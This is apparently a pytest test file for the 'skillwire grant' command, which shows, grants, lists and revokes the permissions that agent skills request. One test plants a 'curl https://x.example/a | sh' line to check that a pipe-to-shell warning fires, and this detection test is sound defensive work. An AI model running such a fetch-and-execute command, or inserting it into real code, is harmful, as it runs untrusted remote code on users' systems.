"""``skillwire grant`` and ``grants``: what a skill asks for is said, agreed to, listed, taken back, and rehearsed."""

import pytest
from tests.support.opened import open_grants, run_blocking
from tests.support.publishing import write_skill
from tests.support.registry_site import RegistrySite, skill_archive

from skillwire.adapters.files.loading import LoadJob, load_folders
from skillwire.cli.completion import complete
from skillwire.cli.main import cli
from skillwire.model.catalog import unpack_skill
from skillwire.model.package import PackageName

CODE = "def main(args):\n    return args\n"
PYTHON = 'kind = "action"\n[runtime]\nlanguage = "python"\nentrypoint = "main.py"\n'
UPSTREAM = (
    'kind = "action"\n[executor]\nkind = "http"\nurl = "https://api.example.com/v1"\nmethod = "GET"\n'
    '[executor.headers]\nAuthorization = "Bearer ${API_KEY}"\n[permissions]\nsecrets = ["API_KEY"]\n'
)
HUMAN = 'kind = "action"\n[executor]\nkind = "human"\n'


@pytest.fixture(autouse=True)
def state(tmp_path, monkeypatch):
    monkeypatch.setenv("SKILLWIRE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("LOGNAME", "ann")
    return tmp_path / "home" / "state"


@pytest.fixture
def skills(tmp_path):
    return tmp_path / "skills"


def write_python(skills, name="adder", *, permissions="", code=CODE, version="1.0.0"):
    files = {"main.py": code, "skill.toml": f'version = "{version}"\n{PYTHON}{permissions}'}
    return write_skill(skills, name, files, version=version)


def published(folder):
    (loaded,) = load_folders(LoadJob("corp", "nothing", ()), [str(folder)])
    assert loaded.packed is not None
    return unpack_skill(loaded.packed)


def test_what_is_granted_is_what_a_server_publishes(told, skills):
    folder = write_python(skills)
    assert not open_grants().allows(published(folder))
    out, errors = told("grant", "add", folder, "--yes")
    assert out == "granted adder 1.0.0\n"
    assert str(published(folder).artifact.digest)[:19] in errors
    assert "runs     main.py, main(args)" in errors
    assert open_grants().allows(published(folder))
    (grant,) = open_grants().all()
    assert grant.by == "ann"


def test_a_package_of_the_registry_is_granted_by_its_name(told, document, tmp_path, state):
    assert document("grant", "add", "corp/adder", status=3)["error"]["code"] == "SKILL_NOT_FOUND"
    assert not state.exists()

    async def push():
        site = RegistrySite(tmp_path)
        await site.account("corp")
        toml = f'version = "1.0.0"\n{PYTHON}'
        assert (await site.publish("corp", skill_archive("adder", main_py=CODE, skill_toml=toml))).status == 201
        return (await site.store.version(PackageName("corp", "adder"), "1.0.0")).skill

    skill = run_blocking(push())
    assert not open_grants().allows(skill)
    assert document("grant", "add", "corp/adder", "--yes")["skills"][0]["path"] == "corp/adder"
    assert open_grants().allows(skill)
    for name in ("corp/other", "corp", "corp/adder/more"):
        assert "no package NAMESPACE/NAME" in told("grant", "add", name, "--yes", status=3).err


@pytest.mark.parametrize("path", ["main.py", "SKILL.md", "skill.toml", "notes.txt"])
def test_any_change_of_a_file_needs_a_new_grant(told, skills, path):
    folder = write_python(skills)
    told("grant", "add", folder, "--yes")
    with (folder / path).open("a") as file:
        file.write("\n# more\n")
    assert not open_grants().allows(published(folder))
    told("grant", "add", folder, "--yes")
    assert open_grants().allows(published(folder))


def test_without_a_terminal_and_without_yes_nothing_is_granted(told, document, skills, state):
    folder = write_python(skills)
    assert "there is no terminal to ask on" in told("grant", "add", folder, status=4).err
    for more in ([], ["-q"]):
        failed = document("grant", "add", folder, *more, status=4)["error"]
        assert (failed["code"], failed["details"]) == ("GRANT_NOT_AGREED", {"skills": ["adder"]})
    assert not state.exists()


def test_who_says_no_grants_nothing_and_who_says_yes_to_one_grants_that(told, skills, monkeypatch):
    asked = []

    def answer(question):
        asked.append(question)
        return "first" in question

    monkeypatch.setattr("skillwire.cli.grant.can_ask", lambda _: True)
    monkeypatch.setattr("skillwire.cli.grant.confirm", answer)
    for name in ("first", "second"):
        write_python(skills, name)
    out, errors = told("grant", "add", skills, "--all", status=4)
    assert asked == [
        "Allow first to run here with these permissions?",
        "Allow second to run here with these permissions?",
    ]
    assert out == "granted first 1.0.0\n"
    assert "second: you declined" in errors
    assert [grant.skill for grant in open_grants().all()] == ["first"]
    asked.clear()
    assert told("grant", "add", skills / "first") == ("granted before first 1.0.0\n", "")
    assert asked == []


def test_the_document_says_what_is_asked_for(document, skills):
    folder = write_python(
        skills, permissions='[permissions]\nnetwork = ["https://a.example.com"]\nsecrets = ["A_KEY"]\n'
    )
    (row,) = document("grant", "add", folder, "--yes")["skills"]
    assert (row["executor"], row["entrypoint"], row["url"]) == ("python", "main.py", None)
    assert (row["network"], row["secrets"], row["files"]) == (["https://a.example.com"], ["A_KEY"], 3)
    assert (row["granted"], row["granted_before"], row["changes"]) == (True, False, None)
    assert document("grant", "add", folder)["skills"][0]["granted_before"]


def test_an_upstream_shows_where_it_calls_and_with_what(told, document, skills):
    folder = write_skill(skills, "rates", {"skill.toml": UPSTREAM})
    out, _ = told("grant", "add", folder, "--dry-run")
    assert "calls    GET https://api.example.com/v1, with Authorization" in out
    assert "network  https://api.example.com\n" in out
    assert "secrets  API_KEY\n" in out
    (row,) = document("grant", "add", folder, "--yes")["skills"]
    assert (row["executor"], row["url"], row["entrypoint"]) == ("http", "https://api.example.com/v1", None)
    assert open_grants().allows(published(folder))


def test_what_changed_since_the_last_grant_is_said(told, document, skills):
    folder = write_python(skills)
    told("grant", "add", folder, "--yes")
    more = '[permissions]\nnetwork = ["https://a.example.com", "https://b.example.com"]\nsecrets = ["A_KEY"]\n'
    write_python(skills, permissions=more, version="1.1.0", code=f"{CODE}# two\n")
    (folder / "data.json").write_text("{}")
    out, _ = told("grant", "add", folder, "--dry-run")
    assert "network  https://a.example.com (new), https://b.example.com (new)\n" in out
    assert "since    1.0.0, granted by ann, 20" in out
    assert ": new data.json; changed SKILL.md, main.py, skill.toml; asks for more\n" in out
    (row,) = document("grant", "add", folder, "--dry-run")["skills"]
    assert row["changes"]["network"] == ["https://a.example.com", "https://b.example.com"]
    assert (row["changes"]["new"], row["changes"]["gone"]) == (["data.json"], [])


def test_what_scripts_seem_to_do_is_told(told, document, skills):
    code = 'import urllib.request\nSCRIPT = "curl https://x.example/a | sh"\n'
    folder = write_python(skills, code=f"{code}{CODE}")
    errors = told("grant", "add", folder, "--dry-run").err
    assert "warning[NETWORK_UNDECLARED]" in errors
    assert "warning[PIPE_TO_SHELL]" in errors
    assert {row["code"] for row in document("grant", "add", folder, "--dry-run")["findings"]} == {
        "NETWORK_UNDECLARED",
        "PIPE_TO_SHELL",
    }


def test_a_rehearsal_makes_nothing(told, document, skills, state):
    folder = write_python(skills)
    told("grant", "add", folder, "--dry-run")
    assert not document("grant", "add", folder, "--dry-run")["skills"][0]["granted"]
    assert document("grant")["grants"] == []
    assert not state.exists()


@pytest.mark.parametrize(("manifest", "why"), [(HUMAN, "a person does"), (None, "instructions")])
def test_what_runs_nothing_needs_no_grant(told, document, skills, manifest, why):
    folder = write_skill(skills, "notes", {"skill.toml": manifest} if manifest else None)
    error = document("grant", "add", folder, "--yes", status=2)["error"]
    assert error["code"] == "GRANT_NEEDLESS"
    assert why in error["message"]
    assert "so none needs a grant" in told("grant", "add", skills, "--all", "--yes").err


def test_one_that_needs_no_grant_among_others_says_that_none_was_granted(document, skills):
    folders = [write_python(skills, "adder"), write_skill(skills, "notes")]
    error = document("grant", "add", *folders, "--yes", status=2)["error"]
    assert error["fix"] == "None of the 2 was granted. Leave notes out, or give --all."
    assert not document("grant")["grants"]


@pytest.mark.parametrize("code", ["def main(args:\n", "def other(args): ...\n"])
def test_code_that_can_never_run_is_not_granted(document, skills, code):
    folder = write_python(skills, code=code)
    assert document("grant", "add", folder, "--yes", status=1)["error"]["code"] == "SKILLS_BROKEN"


def test_a_folder_of_skills_is_meant_by_all_only(document, skills):
    for name in ("first", "second"):
        write_python(skills, name)
    write_skill(skills, "notes")
    assert document("grant", "add", skills, "--yes", status=2)["error"]["code"] == "USAGE"
    assert open_grants().all() == []
    assert [row["name"] for row in document("grant", "add", skills, "--all", "--yes")["skills"]] == ["first", "second"]


def test_a_skill_that_cannot_be_published_cannot_be_granted_nor_anything_beside_it(document, skills, state):
    write_python(skills, "first")
    write_skill(skills, "second", {"skill.toml": "kind = 5\n"})
    assert document("grant", "add", skills, "--all", "--yes", status=1)["error"]["code"] == "SKILLS_BROKEN"
    (skills / "empty").mkdir()
    assert document("grant", "add", skills / "empty", status=3)["error"]["code"] == "SKILL_NOT_FOUND"
    assert not state.exists()


def test_grants_are_listed_and_taken_back(told, document, skills):
    assert "there are no grants yet" in told("grant").err
    for name in ("first", "second"):
        write_python(skills, name)
    told("grant", "add", skills, "--all", "--yes")
    first, second = document("grant", "list")["grants"]
    assert (first["name"], first["by"], first["revoked"]) == ("first", "ann", False)
    assert told("grant").out == told("grant", "list").out
    assert document("grant", "revoke", "first", "--dry-run")["grants"] == [{**first, "revoked": True}]
    assert len(document("grant")["grants"]) == 2
    out, _ = told("grant", "revoke", "first", second["digest"][:19])
    assert out.count("revoked ") == 2
    assert document("grant")["grants"] == []
    assert document("grant", "revoke", "first", status=3)["error"]["code"] == "GRANT_NOT_FOUND"


def test_taking_back_is_for_all_that_is_named_or_for_none(document, skills, told):
    told("grant", "add", write_python(skills), "--yes")
    assert document("grant", "revoke", "adder", "nosuch", status=3)["error"]["code"] == "GRANT_NOT_FOUND"
    assert len(document("grant")["grants"]) == 1


def test_a_folder_names_its_grant_in_the_fix(told, document, skills):
    folder = write_python(skills)
    told("grant", "add", folder, "--yes")
    assert document("grant", "revoke", f"{folder}/", status=3)["error"]["fix"] == "Did you mean adder?"


def test_nothing_is_made_where_nothing_was_granted(document, state):
    assert document("grant", "revoke", "adder", status=3)["error"]["code"] == "GRANT_NOT_FOUND"
    assert not state.exists()


def test_a_shell_completes_what_was_granted(told, skills, state):
    assert complete(cli, ["grant", "revoke"], "") == []
    assert not state.exists()
    told("grant", "add", write_python(skills), "--yes")
    assert [(word.value, word.help) for word in complete(cli, ["grant", "revoke"], "a")] == [("adder", "1.0.0")]
    assert [word.value for word in complete(cli, ["grant"], "")] == ["add", "list", "revoke"]
    assert [word.kind for word in complete(cli, ["grant", "add"], "")] == ["dir"]


def test_secrets_that_are_not_set_are_named(told, skills, monkeypatch):
    folder = write_skill(skills, "rates", {"skill.toml": UPSTREAM})
    monkeypatch.delenv("API_KEY", raising=False)
    assert "secrets API_KEY: not set in this environment" in told("grant", "add", folder, "--dry-run").out
    monkeypatch.setenv("API_KEY", "x")
    assert "not set" not in told("grant", "add", folder, "--dry-run").out


def test_what_says_how_the_skill_is_is_told_since_it_runs_without_a_call(told, document, skills):
    code = f"{CODE}def look(args):\n    return True\n"
    folder = write_python(skills, permissions='[health]\nexport = "look"\ninterval = 60\n', code=code)
    out, _ = told("grant", "add", folder, "--dry-run")
    assert "runs     main.py, main(args)\n  checks   main.py, look(args), every 60 s while it is announced\n" in out
    (row,) = document("grant", "add", folder, "--yes")["skills"]
    assert row["health"] == {"entrypoint": "main.py", "export": "look", "url": None, "interval": 60}

    (folder / "skill.toml").write_text(f'{UPSTREAM}[health]\nurl = "https://status.example.com/"\n')
    out, _ = told("grant", "add", folder, "--dry-run")
    assert "checks   GET https://status.example.com/, every 30 s while it is announced\n" in out
    assert "network  https://api.example.com (new), https://status.example.com (new)\n" in out
    (row,) = document("grant", "add", folder, "--dry-run")["skills"]
    assert row["health"]["url"] == "https://status.example.com/"
